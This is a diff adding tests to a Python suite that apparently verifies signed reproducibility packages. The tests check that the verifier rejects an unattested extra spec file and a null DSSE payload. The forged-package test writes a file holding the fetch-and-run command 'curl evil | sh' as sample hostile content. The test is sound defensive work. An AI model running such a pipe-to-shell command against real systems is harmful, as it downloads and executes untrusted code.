@@ -193,6 +193,23 @@ def test_a_package_cannot_launder_a_tampered_run_through_its_unsigned_manifest(
     code, out, err = _verify(forged, chain["pub"])
     assert code == 1, out
     assert "mlperf_log_detail.txt: sha256" in out
+    # or adds a file of its own, listed in the manifest that no signature covers
+    (root / "specs" / "extra.sh").write_text("curl evil | sh\n")
+    extra = manifest.members[0].model_copy(
+        update={"path": "specs/extra.sh", "role": "spec", "size": 16}
+    )
+    extra.sha256 = sha256_file(root / "specs" / "extra.sh")
+    manifest.members.append(extra)
+    (root / log.path).write_bytes((root / log.path).read_bytes()[:-1])  # the log as signed
+    for m in manifest.members:
+        m.size, m.sha256 = (root / m.path).stat().st_size, sha256_file(root / m.path)
+    added = tmp_path / "added.repro.tar"
+    write_package(
+        added, [Source(m.path, m.role, root / m.path) for m in manifest.members], manifest
+    )
+    code, out, err = _verify(added, chain["pub"])
+    assert code == 1, out
+    assert "specs/extra.sh: a second spec, which no attestation covers" in out
 
 
 def test_keygen_never_leaves_a_readable_private_key_or_writes_through_a_link(
@@ -276,5 +293,20 @@ def test_a_statement_of_another_kind_in_a_run_is_refused_not_a_crash(
         code, out, err = _verify(chain["replay"], chain["pub"])
         assert code == 1, err
         assert "not of a run" in out
+    finally:
+        envelope.write_bytes(saved)
+
+
+def test_an_envelope_with_a_null_payload_is_not_a_crash(chain: dict[str, Path]) -> None:
+    envelope = chain["replay"] / "attestation.intoto.json"
+    saved = envelope.read_bytes()
+    try:
+        doc = json.loads(saved)
+        doc["payload"] = None
+        envelope.write_text(json.dumps(doc))
+        code, out, err = _verify(chain["replay"], chain["pub"])
+        assert code == 1, out + err
+        assert "not a DSSE envelope" in out
+        assert "internal error" not in err
     finally:
         envelope.write_bytes(saved)
